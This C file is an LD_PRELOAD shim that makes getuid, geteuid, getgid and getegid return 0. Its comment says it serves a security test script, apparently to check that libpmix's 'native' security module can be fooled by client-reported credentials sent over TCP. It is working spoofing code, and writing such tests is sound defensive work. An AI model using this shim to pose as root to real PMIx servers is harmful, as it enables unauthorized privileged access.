/*
 * LD_PRELOAD shim for tests/security/pmix_attack.sh: the process claims to
 * be root. libpmix's "native" security module sends what getuid/geteuid and
 * getgid/getegid return as the client's credential over TCP, so with this
 * shim an unprivileged client presents itself as uid 0 to a server that
 * believes it. The kernel's view of the process does not change.
 */
#include <sys/types.h>
#include <unistd.h>

uid_t getuid(void)
{
    return 0;
}

uid_t geteuid(void)
{
    return 0;
}

gid_t getgid(void)
{
    return 0;
}

gid_t getegid(void)
{
    return 0;
}
